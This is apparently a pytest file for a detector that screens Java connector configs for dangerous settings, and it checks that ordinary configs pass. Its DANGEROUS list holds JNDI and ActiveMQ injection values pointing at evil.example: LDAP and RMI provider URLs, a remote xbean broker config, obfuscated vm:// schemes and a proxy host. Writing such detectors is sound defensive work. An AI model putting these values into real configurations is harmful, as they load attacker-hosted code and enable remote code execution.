"""What a config may not have of Java's connectors in general, and that ordinary ones pass."""

from __future__ import annotations

import pytest

from kconnect.core.settings.unsafe import dangers, of_config

DANGEROUS = (
    ("activemq.url", "vm://x?brokerConfig=xbean:http://evil.example/x.xml", "activemq.broker"),
    ("activemq.url", "failover:(vm:(broker:(tcp://localhost:1)))?randomize=false", "activemq.broker"),
    ("activemq.url", "failover:(%76m://x)", "activemq.broker"),
    ("camel.component.activemq.brokerURL", "vm://x", "activemq.broker"),
    ("java.naming.provider.url", "ldap://evil.example/x", "jndi"),
    ("jms.java.naming.provider.url", " RMI://evil.example/x", "jndi"),
    ("java.naming.factory.initial", "com.sun.jndi.ldap.LdapCtxFactory", "jndi"),
    ("java.naming.factory.url.pkgs", "com.acme:com.sun.jndi.url", "jndi"),
    ("connection.factory.name", "ldap://evil.example/x", "jndi"),
    ("jvm.proxy.host", "evil.example", "jvm.proxy.host"),
)


@pytest.mark.parametrize(("name", "value", "part"), DANGEROUS, ids=[f"{name}={value}" for name, value, _ in DANGEROUS])
def test_what_is_dangerous(name: str, value: str, part: str) -> None:
    assert {danger.part for danger in dangers(name, value)} == {part}
    assert list(dangers(name, value, [part])) == [], "the worker's file allows it"


def test_what_is_ordinary() -> None:
    config = {
        "activemq.url": "failover:(tcp://a:61616,ssl://b:61617)?randomize=false",
        "java.naming.factory.initial": "com.tibco.tibjms.naming.TibjmsInitialContextFactory",
        "java.naming.provider.url": "tibjmsnaming://h:7222",
        "connection.factory.name": "QueueConnectionFactory",
        "ldap.url": "ldap://directory.example.com:389",
        "connection.url": "jdbc:oracle:thin:@ldap://h/cn=x",
        "topics": "vm, vm.metrics",
        "query": "select 'kvm://x' from t",
        "text.language": "en",
    }
    assert list(of_config(config)) == []
